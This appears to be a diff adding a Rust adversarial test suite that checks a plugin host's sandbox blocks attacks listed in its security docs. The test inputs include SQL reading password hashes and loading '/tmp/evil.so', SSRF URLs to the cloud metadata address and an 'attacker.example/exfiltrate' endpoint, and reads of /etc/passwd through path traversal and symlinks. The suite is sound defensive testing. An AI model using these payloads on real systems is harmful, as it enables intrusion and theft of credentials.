@@ -1,0 +1,1063 @@
+//! The adversarial suite: every attack of docs/security.md, run in each
+//! runtime it applies to (hostile plugins in `tests/plugins/attacks-*`, the
+//! `hostile` and `probe` Rust guests), each with its expected outcome. The
+//! table in docs/security.md must list exactly these attacks with these
+//! outcomes: the test fails if the docs and the behaviour part.
+
+use crate::support::{TableResolver, TestServer, guests, root, settings};
+use raisfast::cron::Scheduler;
+use raisfast::hooks::{Dispatcher, Envelope};
+use raisfast::host_api::Services;
+use raisfast::manager::{PluginManager, PluginState};
+use raisfast::manifest::Manifest;
+use raisfast::runtime::CallError;
+use raisfast::store::Database;
+use serde_json::{Value, json};
+use std::collections::{BTreeMap, HashMap};
+use std::net::IpAddr;
+use std::path::Path;
+use std::sync::Arc;
+use std::time::Duration;
+
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Lang {
+    Js,
+    Lua,
+    Rhai,
+    Rust,
+}
+
+use Lang::*;
+const ALL: &[Lang] = &[Js, Lua, Rhai, Rust];
+const SCRIPTS: &[Lang] = &[Js, Lua, Rhai];
+
+impl Lang {
+    fn name(self) -> &'static str {
+        match self {
+            Js => "js",
+            Lua => "lua",
+            Rhai => "rhai",
+            Rust => "rust",
+        }
+    }
+}
+
+struct Ctx {
+    _tmp: tempfile::TempDir,
+    manager: Arc<PluginManager>,
+    hooks: Arc<Dispatcher>,
+    server: TestServer,
+    vfs_root: std::path::PathBuf,
+}
+
+fn grants(port: u16) -> String {
+    let hosts = [
+        format!("http://127.0.0.2:{port}"),
+        format!("http://2130706434:{port}"),
+        format!("http://0177.0.0.2:{port}"),
+        format!("http://0x7f000002:{port}"),
+        format!("http://[::1]:{port}"),
+        format!("http://[::ffff:127.0.0.2]:{port}"),
+        format!("http://evil.test:{port}"),
+        format!("http://public.test:{port}"),
+        format!("http://internal.test:{port}"),
+        format!("http://127.0.0.1:{port}"),
+        "http://169.254.169.254".into(),
+        "http://10.0.0.1".into(),
+    ];
+    let list: Vec<String> = hosts.iter().map(|h| format!("\"{h}\"")).collect();
+    format!(
+        "[permissions]\ndatabase = [\"*\"]\nfilesystem = [\"read\", \"write\"]\ntimeout_ms = 300\nmax_memory_mb = 64\nhttp = [{}]\n",
+        list.join(", ")
+    )
+}
+
+fn manifest(id: &str, runtime: &str, extra: &str) -> String {
+    format!(
+        "[plugin]\nid = \"{id}\"\nname = \"{id}\"\nversion = \"0.1.0\"\nruntime = \"{runtime}\"\n\n{extra}\n"
+    )
+}
+
+fn install(dir: &Path, name: &str, manifest: &str, files: &[(&str, &str)], wasm: Option<&Path>) {
+    let d = dir.join(name);
+    std::fs::create_dir_all(&d).unwrap();
+    std::fs::write(d.join("manifest.toml"), manifest).unwrap();
+    for (p, t) in files {
+        std::fs::write(d.join(p), t).unwrap();
+    }
+    if let Some(w) = wasm {
+        std::fs::copy(w, d.join("plugin.wasm")).unwrap();
+    }
+}
+
+impl Ctx {
+    fn new() -> Ctx {
+        let tmp = tempfile::tempdir().unwrap();
+        let server = TestServer::start();
+        let p = server.port;
+        let mut s = settings(tmp.path());
+        s.runtime.pool_size = 1;
+        s.http.allowed_private_networks = vec!["127.0.0.1/32".parse().unwrap()];
+        s.vfs.max_file_bytes = 50_000;
+        s.vfs.max_total_bytes = 100_000;
+        std::fs::create_dir_all(&s.plugin_dir).unwrap();
+        std::fs::create_dir_all(&s.data_dir).unwrap();
+        let plugins = s.plugin_dir.clone();
+        let g = grants(p);
+        for (lang, entry) in [(Js, "main.js"), (Lua, "init.lua"), (Rhai, "init.rhai")] {
+            let src = std::fs::read_to_string(
+                root().join(format!("tests/plugins/attacks-{}/{entry}", lang.name())),
+            )
+            .unwrap();
+            let extra = match lang {
+                Js => format!(
+                    "{g}\n[hooks.on_content_creating]\nhandler = \"spin\"\n\n[hooks.\"loop.evt\"]\nhandler = \"spin\"\n"
+                ),
+                Lua => format!("{g}\n[hooks.on_content_updating]\nhandler = \"wrong_type\"\n"),
+                _ => g.clone(),
+            };
+            install(
+                &plugins,
+                &format!("atk-{}", lang.name()),
+                &manifest(&format!("atk.{}", lang.name()), lang.name(), &extra),
+                &[(entry, &src)],
+                None,
+            );
+        }
+        install(
+            &plugins,
+            "atk-rust",
+            &manifest("atk.rust", "wasm", &g),
+            &[],
+            Some(&guests().probe),
+        );
+        install(
+            &plugins,
+            "atk-hostile",
+            &manifest(
+                "atk.hostile",
+                "wasm",
+                "[permissions]\ntimeout_ms = 300\nmax_memory_mb = 64\n",
+            ),
+            &[],
+            Some(&guests().hostile),
+        );
+        install(
+            &plugins,
+            "atk-thrower",
+            &manifest("atk.thrower", "js", ""),
+            &[(
+                "main.js",
+                "export function on_content_created(input) { throw new Error('always'); }",
+            )],
+            None,
+        );
+        install(
+            &plugins,
+            "atk-listener",
+            &manifest(
+                "atk.listener",
+                "js",
+                "[hooks.\"loop.evt\"]\nhandler = \"heard\"\n",
+            ),
+            &[(
+                "main.js",
+                "import { kvGet, kvSet } from 'sdk';\nexport function heard(input) { kvSet('heard', true); }\nexport function was_heard() { return kvGet('heard') ?? false; }",
+            )],
+            None,
+        );
+        install(
+            &plugins,
+            "atk-cron",
+            &manifest(
+                "atk.cron",
+                "js",
+                "[permissions]\ntimeout_ms = 300\n\n[[cron]]\nname = \"spin\"\nschedule = \"* * * * * *\"\nhandler = \"spin\"\n",
+            ),
+            &[("main.js", "export function spin() { while (true) {} }")],
+            None,
+        );
+        let mut names: HashMap<String, IpAddr> = HashMap::new();
+        names.insert("evil.test".into(), "127.0.0.3".parse().unwrap());
+        names.insert("public.test".into(), "127.0.0.1".parse().unwrap());
+        names.insert("internal.test".into(), "127.0.0.2".parse().unwrap());
+        let vfs_root = s.vfs_root("atk.js");
+        let db = Database::open(&s.database_path()).unwrap();
+        let services = Services::with_resolver(Arc::new(s), db, Arc::new(TableResolver(names)));
+        let manager = Arc::new(PluginManager::with_services(services).unwrap());
+        let report = manager.load_all();
+        assert!(report.failed.is_empty(), "{:?}", report.failed);
+        let hooks = Dispatcher::new(Arc::clone(&manager));
+        Ctx {
+            _tmp: tmp,
+            manager,
+            hooks,
+            server,
+            vfs_root,
+        }
+    }
+
+    fn id(&self, lang: Lang) -> String {
+        format!("atk.{}", lang.name())
+    }
+
+    /// Calls a handler of the attack plugin in `lang` with `body`.
+    fn call(&self, lang: Lang, handler: &str, body: Value) -> Result<Value, CallError> {
+        let env = json!({"hook": handler, "body": body}).to_string();
+        self.manager
+            .call_hook(&self.id(lang), handler, &env)
+            .map(|o| {
+                o.value
+                    .map(|v| serde_json::from_str(&v).unwrap())
+                    .unwrap_or(Value::Null)
+            })
+            .map_err(|f| f.error)
+    }
+
+    /// A probe op in the Rust plugin; the error kind or "ok".
+    fn probe(&self, op: Value) -> String {
+        let v = self.call(Rust, "probe", op).unwrap();
+        match v.get("err") {
+            Some(e) => e["kind"].as_str().unwrap().to_string(),
+            None => "ok".into(),
+        }
+    }
+
+    /// Whether the plugin still answers.
+    fn recovers(&self, lang: Lang) -> bool {
+        match lang {
+            Rust => self.manager.call_hook("atk.hostile", "count", "{}").is_ok(),
+            l => self.call(l, "ping", json!({})).ok() == Some(json!("pong")),
+        }
+    }
+}
+
+/// A handler's answer as text (a string as it is, anything else as JSON or the error).
+fn text(r: Result<Value, CallError>) -> String {
+    match r {
+        Ok(Value::String(s)) => s,
+        Ok(v) => v.to_string(),
+        Err(e) => format!("error: {e}"),
+    }
+}
+
+trait Pipe: Sized {
+    fn pipe<R>(self, f: impl FnOnce(Self) -> R) -> R {
+        f(self)
+    }
+}
+
+impl<T> Pipe for T {}
+
+/// How a failed or successful call reads in the table.
+fn fate(r: &Result<Value, CallError>) -> &'static str {
+    match r {
+        Err(CallError::Timeout { .. }) => "timeout",
+        Err(CallError::OutOfMemory { .. }) => "out of memory",
+        Err(CallError::Plugin {
+            error: raisfast::host_api::HostError::Limit(_),
+            ..
+        }) => "limit",
+        Err(_) => "call fails",
+        Ok(_) => "ok",
+    }
+}
+
+fn with_recovery(ctx: &Ctx, lang: Lang, fate: &str) -> String {
+    if ctx.recovers(lang) {
+        format!("{fate}; the next call works")
+    } else {
+        format!("{fate}; the plugin is broken")
+    }
+}
+
+fn cpu(ctx: &Ctx, lang: Lang, script: &str, rust: &str) -> String {
+    let r = match lang {
+        Rust => ctx
+            .manager
+            .call_hook("atk.hostile", rust, "{}")
+            .map(|_| Value::Null)
+            .map_err(|f| f.error),
+        l => ctx.call(l, script, json!({})),
+    };
+    with_recovery(ctx, lang, fate(&r))
+}
+
+fn memory(ctx: &Ctx, lang: Lang, handler: &str) -> String {
+    let r = match lang {
+        Rust => ctx
+            .manager
+            .call_hook("atk.hostile", "alloc", "{}")
+            .map(|_| Value::Null)
+            .map_err(|f| f.error),
+        l => ctx.call(l, handler, json!({})),
+    };
+    with_recovery(ctx, lang, fate(&r))
+}
+
+/// Whichever cap stops it first: memory, the engine's own (QuickJS refuses a string
+/// over its maximum length), the 16 MiB result cap, or the deadline.
+fn capped(ctx: &Ctx, lang: Lang, handler: &str) -> String {
+    let r = ctx.call(lang, handler, json!({}));
+    let f = match (&r, fate(&r)) {
+        (_, "out of memory" | "limit" | "timeout") => "refused at a cap",
+        (Err(CallError::Plugin { .. }), _) => "refused at a cap",
+        (_, other) => other,
+    };
+    with_recovery(ctx, lang, f)
+}
+
+fn sql(ctx: &Ctx, lang: Lang, handler: &str, sql: &str) -> String {
+    match lang {
+        Rust => ctx.probe(
+            json!({"op": if handler == "exec" { "db.execute" } else { "db.query" }, "sql": sql}),
+        ),
+        l => ctx.call(l, handler, json!({"sql": sql})).pipe(text),
+    }
+}
+
+fn http(ctx: &Ctx, lang: Lang, url: &str, timeout: u32) -> String {
+    match lang {
+        Rust => ctx.probe(json!({"op": "http.fetch", "url": url, "timeout_ms": timeout})),
+        l => ctx
+            .call(l, "http", json!({"url": url, "timeout": timeout}))
+            .pipe(text),
+    }
+}
+
+fn fs(ctx: &Ctx, lang: Lang, handler: &str, path: &str, size: usize) -> String {
+    match lang {
+        Rust => ctx.probe(json!({"op": if handler == "write_file" { "vfs.write" } else { "vfs.read" }, "path": path, "size": size})),
+        l => ctx.call(l, handler, json!({"path": path, "size": size})).pipe(text),
+    }
+}
+
+fn log_outcome(ctx: &Ctx, lang: Lang, handler: &str) -> String {
+    let env = json!({"hook": handler, "body": {}}).to_string();
+    let out = match lang {
+        Rust => {
+            let op = if handler == "huge_log" {
+                json!({"op": "log", "size": 1024 * 1024})
+            } else {
+                json!({"op": "seq", "ops": vec![json!({"op": "log", "message": "line"}); 5000]})
+            };
+            let env = json!({"hook": "probe", "body": op}).to_string();
+            ctx.manager.call_hook("atk.rust", "probe", &env).unwrap()
+        }
+        l => ctx.manager.call_hook(&ctx.id(l), handler, &env).unwrap(),
+    };
+    if handler == "huge_log" {
+        let m = &out.logs[0].message;
+        if m.len() <= 8 * 1024 + 32 && m.ends_with("[truncated]") {
+            "truncated at 8 KiB".into()
+        } else {
+            format!("{} bytes kept", m.len())
+        }
+    } else {
+        format!("{} lines kept", out.logs.len())
+    }
+}
+
+fn manifest_refused(text: &str) -> String {
+    match Manifest::parse(Path::new("manifest.toml"), text, None) {
+        Ok(_) => "accepted".into(),
+        Err(e) if e.0.iter().all(|x| x.line > 0) => "refused, naming the line".into(),
+        Err(_) => "refused".into(),
+    }
+}
+
+const MINIMAL: &str =
+    "[plugin]\nid = \"a.b\"\nname = \"x\"\nversion = \"1.0.0\"\nruntime = \"js\"\n";
+
+type Run = fn(&Ctx, Lang) -> String;
+
+struct Attack {
+    id: &'static str,
+    langs: &'static [Lang],
+    expect: &'static str,
+    run: Run,
+}
+
+macro_rules! attack {
+    ($id:literal, $langs:expr, $expect:literal, $run:expr) => {
+        Attack {
+            id: $id,
+            langs: $langs,
+            expect: $expect,
+            run: $run,
+        }
+    };
+}
+
+fn attacks() -> Vec<Attack> {
+    vec![
+        attack!("CPU-01", ALL, "timeout; the next call works", |c, l| cpu(
+            c, l, "spin", "spin"
+        )),
+        attack!("CPU-02", ALL, "timeout; the next call works", |c, l| cpu(
+            c,
+            l,
+            "spin_host",
+            "spin_in_host_calls"
+        )),
+        attack!(
+            "CPU-03",
+            &[Js],
+            "the operation is refused naming the plugin",
+            |c, _| {
+                let env = Envelope::new("on_content_creating", json!({"title": "t"}));
+                match c.hooks.filter(&env, |_| Ok(())) {
+                    Err(e) if e.plugin == "atk.js" && e.message.contains("timed out") => {
+                        "the operation is refused naming the plugin".into()
+                    }
+                    other => format!("{other:?}"),
+                }
+            }
+        ),
+        attack!(
+            "CPU-04",
+            &[Js],
+            "each run ends at the deadline and is recorded; later ticks run",
+            |c, _| {
+                let s = Scheduler::start(&c.manager, "attacks".into());
+                std::thread::sleep(Duration::from_millis(2600));
+                s.stop();
+                std::thread::sleep(Duration::from_millis(400));
+                let runs =
+                    raisfast::cron::recent_runs(&c.manager.services().db, "atk.cron", 10).unwrap();
+                let failed = runs
+                    .iter()
+                    .filter(|r| {
+                        r.outcome == "error"
+                            && r.error.as_deref().unwrap_or("").contains("timed out")
+                    })
+                    .count();
+                if failed >= 2 {
+                    "each run ends at the deadline and is recorded; later ticks run".into()
+                } else {
+                    format!("{runs:?}")
+                }
+            }
+        ),
+        attack!(
+            "CPU-05",
+            &[Js],
+            "the handler times out; the other subscribers get the event",
+            |c, _| {
+                c.manager.start_events();
+                let env = json!({"hook": "probe", "body": {"op": "events.emit", "name": "loop.evt", "payload": {}}}).to_string();
+                c.manager.call_hook("atk.rust", "probe", &env).unwrap();
+                let heard = crate::server_support::wait_until(Duration::from_secs(5), || {
+                    c.manager
+                        .call_hook("atk.listener", "was_heard", "{}")
+                        .ok()
+                        .and_then(|o| o.value)
+                        .as_deref()
+                        == Some("true")
+                });
+                if heard {
+                    "the handler times out; the other subscribers get the event".into()
+                } else {
+                    "not delivered".into()
+                }
+            }
+        ),
+        attack!(
+            "MEM-01",
+            ALL,
+            "out of memory; the next call works",
+            |c, l| memory(c, l, "bomb")
+        ),
+        attack!(
+            "MEM-02",
+            SCRIPTS,
+            "refused at a cap; the next call works",
+            |c, l| capped(c, l, "double")
+        ),
+        attack!(
+            "MEM-03",
+            SCRIPTS,
+            "refused at a cap; the next call works",
+            |c, l| capped(c, l, "huge_array")
+        ),
+        attack!(
+            "MEM-04",
+            SCRIPTS,
+            "refused at a cap; the next call works",
+            |c, l| capped(c, l, "huge_return")
+        ),
+        attack!("MEM-05", ALL, "truncated at 8 KiB", |c, l| log_outcome(
+            c, l, "huge_log"
+        )),
+        attack!("MEM-06", ALL, "1000 lines kept", |c, l| log_outcome(
+            c,
+            l,
+            "many_logs"
+        )),
+        attack!("MEM-07", ALL, "limit", |c, l| match l {
+            Rust => c.probe(json!({"op": "kv.set", "key": "big", "size": 2 * 1024 * 1024})),
+            l => c.call(l, "huge_kv", json!({})).pipe(text),
+        }),
+        attack!(
+            "STACK-01",
+            ALL,
+            "call fails; the next call works",
+            |c, l| {
+                let r = match l {
+                    Rust => c
+                        .manager
+                        .call_hook("atk.hostile", "recurse", "{}")
+                        .map(|_| Value::Null)
+                        .map_err(|f| f.error),
+                    l => c.call(l, "deep", json!({})),
+                };
+                with_recovery(c, l, if r.is_err() { "call fails" } else { "returned" })
+            }
+        ),
+        attack!("DB-01", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "SELECT p.name, u.password_hash FROM products p JOIN users u"
+        )),
+        attack!("DB-02", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "SELECT u.password_hash FROM products p, users u"
+        )),
+        attack!("DB-03", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "SELECT name FROM products WHERE id IN (SELECT rowid FROM users)"
+        )),
+        attack!("DB-04", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "WITH leak AS (SELECT password_hash FROM users) SELECT * FROM leak"
+        )),
+        attack!("DB-05", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "SELECT name FROM products UNION SELECT password_hash FROM users"
+        )),
+        attack!("DB-06", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "exec",
+            "INSERT INTO products (name) SELECT password_hash FROM users"
+        )),
+        attack!("DB-07", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "SELECT count(*) FROM sessions"
+        )),
+        attack!("DB-08", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "SELECT sql FROM sqlite_master"
+        )),
+        attack!("DB-09", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "SELECT * FROM \"USERS\""
+        )),
+        attack!("DB-10", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "SELECT * FROM main.users"
+        )),
+        attack!("DB-11", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "exec",
+            "CREATE TRIGGER steal AFTER INSERT ON products BEGIN DELETE FROM users; END"
+        )),
+        attack!("DB-12", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "exec",
+            "CREATE VIEW everyone AS SELECT * FROM users"
+        )),
+        attack!("DB-13", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "exec",
+            "ATTACH DATABASE '/tmp/x.db' AS x"
+        )),
+        attack!("DB-14", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "exec",
+            "PRAGMA writable_schema = 1"
+        )),
+        attack!("DB-15", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "SELECT load_extension('/tmp/evil.so')"
+        )),
+        attack!("DB-16", ALL, "invalid", |c, l| sql(
+            c,
+            l,
+            "exec",
+            "UPDATE products SET name = 'a'; UPDATE products SET name = 'b'"
+        )),
+        attack!("DB-17", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "sql",
+            "SELECT * FROM other_secrets"
+        )),
+        attack!("DB-18", ALL, "denied", |c, l| sql(
+            c,
+            l,
+            "exec",
+            "CREATE TEMP TABLE t (x)"
+        )),
+        attack!(
+            "DB-19",
+            SCRIPTS,
+            "rolled back when the call ends",
+            |c, l| {
+                let _ = c.call(
+                    l,
+                    "open_txn",
+                    json!({"sql": "INSERT INTO products (name) VALUES ('uncommitted')"}),
+                );
+                let conn = c.manager.services().db.connection().unwrap();
+                let n: i64 = conn
+                    .query_row(
+                        "SELECT count(*) FROM products WHERE name = 'uncommitted'",
+                        [],
+                        |r| r.get(0),
+                    )
+                    .unwrap();
+                if n == 0 {
+                    "rolled back when the call ends".into()
+                } else {
+                    "kept".into()
+                }
+            }
+        ),
+        attack!("DB-20", &[Js, Rust], "stopped at the deadline", |c, l| {
+            let q = "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT count(*) FROM r";
+            let r = match l {
+                Rust => c.call(Rust, "probe", json!({"op": "db.query", "sql": q})),
+                l => c.call(l, "sql", json!({"sql": q})),
+            };
+            match r {
+                Err(CallError::Timeout { .. }) => "stopped at the deadline".into(),
+                Ok(v) if v == json!("limit") || v["err"]["kind"] == "limit" => {
+                    "stopped at the deadline".into()
+                }
+                other => format!("{other:?}"),
+            }
+        }),
+        attack!("NET-01", ALL, "denied", |c, l| http(
+            c,
+            l,
+            &format!("http://127.0.0.2:{}/hello", c.server.port),
+            250
+        )),
+        attack!("NET-02", ALL, "denied", |c, l| http(
+            c,
+            l,
+            "http://10.0.0.1/",
+            250
+        )),
+        attack!("NET-03", ALL, "denied", |c, l| http(
+            c,
+            l,
+            &format!("http://2130706434:{}/hello", c.server.port),
+            250
+        )),
+        attack!("NET-04", ALL, "denied", |c, l| http(
+            c,
+            l,
+            &format!("http://0177.0.0.2:{}/hello", c.server.port),
+            250
+        )),
+        attack!("NET-05", ALL, "denied", |c, l| http(
+            c,
+            l,
+            &format!("http://0x7f000002:{}/hello", c.server.port),
+            250
+        )),
+        attack!("NET-06", ALL, "denied", |c, l| http(
+            c,
+            l,
+            &format!("http://[::1]:{}/hello", c.server.port),
+            250
+        )),
+        attack!("NET-07", ALL, "denied", |c, l| http(
+            c,
+            l,
+            &format!("http://[::ffff:127.0.0.2]:{}/hello", c.server.port),
+            250
+        )),
+        attack!("NET-08", ALL, "denied", |c, l| http(
+            c,
+            l,
+            &format!("http://evil.test:{}/hello", c.server.port),
+            250
+        )),
+        attack!("NET-09", ALL, "denied", |c, l| http(
+            c,
+            l,
+            "http://169.254.169.254/latest/meta-data/",
+            250
+        )),
+        attack!("NET-10", ALL, "denied", |c, l| {
+            let to = format!("http://internal.test:{}/hello", c.server.port);
+            http(
+                c,
+                l,
+                &format!("http://public.test:{}/redirect?to={to}", c.server.port),
+                250,
+            )
+        }),
+        attack!("NET-11", ALL, "denied", |c, l| http(
+            c,
+            l,
+            &format!("http://127.0.0.1:{}/hello", c.server.port + 1),
+            250
+        )),
+        attack!("NET-12", ALL, "denied", |c, l| http(
+            c,
+            l,
+            "https://attacker.example/exfiltrate",
+            250
+        )),
+        attack!("NET-13", ALL, "limit", |c, l| http(
+            c,
+            l,
+            &format!("http://127.0.0.1:{}/big?bytes=20000000", c.server.port),
+            250
+        )),
+        attack!("NET-14", ALL, "limit", |c, l| http(
+            c,
+            l,
+            &format!("http://127.0.0.1:{}/slow?ms=2000", c.server.port),
+            150
+        )),
+        attack!("FS-01", ALL, "denied", |c, l| fs(
+            c,
+            l,
+            "read_file",
+            "../../raisfast.db",
+            1
+        )),
+        attack!("FS-02", ALL, "denied", |c, l| fs(
+            c,
+            l,
+            "read_file",
+            "/etc/passwd",
+            1
+        )),
+        attack!("FS-03", &[Js], "denied", |c, l| {
+            std::fs::create_dir_all(&c.vfs_root).unwrap();
+            let link = c.vfs_root.join("passwd");
+            if !link.exists() {
+                std::os::unix::fs::symlink("/etc/passwd", &link).unwrap();
+            }
+            fs(c, l, "read_file", "passwd", 1)
+        }),
+        attack!("FS-04", ALL, "invalid", |c, l| fs(
+            c,
+            l,
+            "read_file",
+            "a\u{0}b",
+            1
+        )),
+        attack!("FS-05", ALL, "invalid", |c, l| fs(
+            c,
+            l,
+            "read_file",
+            &"a/".repeat(600),
+            1
+        )),
+        attack!("FS-06", ALL, "limit", |c, l| fs(
+            c,
+            l,
+            "write_file",
+            "big.bin",
+            60_000
+        )),
+        attack!("FS-07", ALL, "denied", |c, l| fs(
+            c,
+            l,
+            "read_file",
+            "../../atk.lua/files/secret",
+            1
+        )),
+        attack!("EVT-01", &[Rust], "limit", |c, _| {
+            let env = json!({"hook": "probe", "body": {"op": "events.emit", "name": "again", "payload": 1}}).to_string();
+            let out = c
+                .manager
+                .plugin("atk.rust")
+                .unwrap()
+                .call_hook("probe", &env, raisfast::host_api::events::MAX_DEPTH)
+                .unwrap();
+            let v: Value = serde_json::from_str(out.value.as_deref().unwrap()).unwrap();
+            v["err"]["kind"].as_str().unwrap_or("ok").to_string()
+        }),
+        attack!("EVT-02", SCRIPTS, "100 sent, then limit", |c, l| {
+            let v = c.call(l, "emit_flood", json!({})).unwrap();
+            format!("{} sent, then {}", v[0], v[1].as_str().unwrap_or(""))
+        }),
+        attack!(
+            "EVT-03",
+            &[Lua],
+            "the operation is refused naming the plugin",
+            |c, _| {
+                let body = json!({"id": "x", "type": "post", "title": "t", "slug": "t", "body": "", "status": "draft", "data": {}, "author_id": null, "created_at": 0, "updated_at": 0, "published_at": null});
+                let env = Envelope::new("on_content_updating", body);
+                match c.hooks.filter(&env, |v| {
+                    v.is_object()
+                        .then_some(())
+                        .ok_or_else(|| "not content".to_string())
+                }) {
+                    Err(e) if e.plugin == "atk.lua" => {
+                        "the operation is refused naming the plugin".into()
+                    }
+                    other => format!("{other:?}"),
+                }
+            }
+        ),
+        attack!(
+            "EVT-04",
+            &[Js],
+            "disabled after 5 consecutive failures",
+            |c, _| {
+                let env = Envelope::new("on_content_created", json!({}));
+                for _ in 0..5 {
+                    c.hooks.action(&env);
+                }
+                match c.manager.state("atk.thrower") {
+                    Some(PluginState::Disabled(Some(why))) if why.contains("5 consecutive") => {
+                        "disabled after 5 consecutive failures".into()
+                    }
+                    other => other.map(|s| s.name().to_string()).unwrap_or_default(),
+                }
+            }
+        ),
+        attack!(
+            "RT-01",
+            &[Rust],
+            "the plugin sees no credentials",
+            |_, _| route_attack("credentials")
+        ),
+        attack!("RT-02", &[Rust], "refused, naming the line", |_, _| {
+            manifest_refused(&format!(
+                "{MINIMAL}\n[[routes]]\nmethod = \"GET\"\npath = \"/../../auth/login\"\nhandler = \"x\"\n"
+            ))
+        }),
+        attack!("RT-03", &[Rust], "413", |_, _| route_attack("body")),
+        attack!("MF-01", &[Js], "refused, naming the line", |_, _| {
+            manifest_refused("[plugin\nid = ")
+        }),
+        attack!("MF-02", &[Js], "refused, naming the line", |_, _| {
+            manifest_refused(&format!("{MINIMAL}evil = true\n"))
+        }),
+        attack!("MF-03", &[Js], "refused, naming the line", |_, _| {
+            manifest_refused(&MINIMAL.replace("\"1.0.0\"", "1"))
+        }),
+        attack!("MF-04", &[Js], "the second copy is not loaded", |c, _| {
+            let plugins = c.manager.services().settings.plugin_dir.clone();
+            install(
+                &plugins,
+                "zz-duplicate",
+                &manifest("atk.js", "js", ""),
+                &[("main.js", "export function ping() { return 'evil'; }")],
+                None,
+            );
+            let r = c.manager.sync_dir(&plugins.join("zz-duplicate"));
+            std::fs::remove_dir_all(plugins.join("zz-duplicate")).unwrap();
+            let held = c.call(Js, "ping", json!({})).ok() == Some(json!("pong"));
+            match r {
+                Err(e) if held && e.to_string().contains("duplicate plugin id") => {
+                    "the second copy is not loaded".into()
+                }
+                other => format!("{:?}", other.map_err(|e| e.to_string())),
+            }
+        }),
+        attack!(
+            "MF-05",
+            &[Js],
+            "both are kept out, the cycle named",
+            |_, _| {
+                use raisfast::manager::order::{Node, plan};
+                let n = |d: &str| Node {
+                    version: semver::Version::new(1, 0, 0),
+                    deps: vec![(d.to_string(), semver::VersionReq::STAR)],
+                };
+                let g: BTreeMap<String, Node> =
+                    [("x.a".to_string(), n("x.b")), ("x.b".to_string(), n("x.a"))]
+                        .into_iter()
+                        .collect();
+                let p = plan(&g);
+                if p.order.is_empty()
+                    && p.excluded
+                        .values()
+                        .all(|w| w.contains("dependency cycle: x.a -> x.b -> x.a"))
+                {
+                    "both are kept out, the cycle named".into()
+                } else {
+                    format!("{p:?}")
+                }
+            }
+        ),
+        attack!("MF-06", &[Js], "refused, naming the line", |_, _| {
+            manifest_refused(&format!("{MINIMAL}entry = \"../../../etc/passwd\"\n"))
+        }),
+        attack!("MF-07", &[Js], "refused before parsing", |_, _| {
+            let dir = tempfile::tempdir().unwrap();
+            std::fs::write(
+                dir.path().join("manifest.toml"),
+                format!("{MINIMAL}# {}", "x".repeat(1 << 20)),
+            )
+            .unwrap();
+            match Manifest::load(dir.path()) {
+                Err(e) if e.to_string().contains("the limit is") => "refused before parsing".into(),
+                other => format!("{:?}", other.is_ok()),
+            }
+        }),
+    ]
+}
+
+/// Route attacks run against a real server.
+fn route_attack(what: &str) -> String {
+    use crate::server_support::Server;
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().join("plugins/probe");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::copy(&guests().probe, dir.join("plugin.wasm")).unwrap();
+    std::fs::write(
+        dir.join("manifest.toml"),
+        "[plugin]\nid = \"atk.route\"\nname = \"r\"\nversion = \"0.1.0\"\nruntime = \"wasm\"\n\n[[routes]]\nmethod = \"POST\"\npath = \"/echo\"\nhandler = \"echo\"\n",
+    )
+    .unwrap();
+    let server = Server::start(tmp.path());
+    let token = server.user("victim");
+    match what {
+        "credentials" => {
+            let agent = ureq::Agent::config_builder()
+                .http_status_as_error(false)
+                .build()
+                .new_agent();
+            let mut resp = agent
+                .post(server.url("/api/v1/plugins/atk.route/echo"))
+                .header("authorization", &format!("Bearer {token}"))
+                .header("cookie", "session=secret")
+                .header("proxy-authorization", "Basic c2VjcmV0")
+                .send("x")
+                .unwrap();
+            let body = resp.body_mut().read_to_string().unwrap();
+            if !body.contains(&token)
+                && !body.contains("secret")
+                && !body.contains("c2VjcmV0")
+                && body.contains("\"caller\":\"victim\"")
+            {
+                "the plugin sees no credentials".into()
+            } else {
+                body
+            }
+        }
+        _ => {
+            let big = "x".repeat(2 * 1024 * 1024);
+            let agent = ureq::Agent::config_builder()
+                .http_status_as_error(false)
+                .build()
+                .new_agent();
+            let resp = agent
+                .post(server.url("/api/v1/plugins/atk.route/echo"))
+                .header("authorization", &format!("Bearer {token}"))
+                .send(big.as_str())
+                .unwrap();
+            resp.status().as_u16().to_string()
+        }
+    }
+}
+
+/// The attack table of docs/security.md: id -> outcome.
+fn documented() -> BTreeMap<String, (String, String)> {
+    let md = std::fs::read_to_string(root().join("docs/security.md")).unwrap();
+    let start = md
+        .find("<!-- attacks:start -->")
+        .expect("attack table start marker");
+    let end = md
+        .find("<!-- attacks:end -->")
+        .expect("attack table end marker");
+    md[start..end]
+        .lines()
+        .filter(|l| l.starts_with("| ") && !l.starts_with("| id") && !l.starts_with("|---"))
+        .map(|l| {
+            let cells: Vec<&str> = l.trim_matches('|').split('|').map(str::trim).collect();
+            (
+                cells[0].to_string(),
+                (cells[3].to_string(), cells[4].to_string()),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn every_attack_in_docs_security_fails_as_documented() {
+    let ctx = Ctx::new();
+    let db = &ctx.manager.services().db;
+    db.connection()
+        .unwrap()
+        .execute_batch("CREATE TABLE products (id INTEGER PRIMARY KEY, name TEXT); CREATE TABLE other_secrets (x);")
+        .unwrap();
+    db.claim_prefix("other_", "someone.other").unwrap();
+    let docs = documented();
+    let attacks = attacks();
+    let mut failures = Vec::new();
+    for a in &attacks {
+        let langs: Vec<&str> = a.langs.iter().map(|l| l.name()).collect();
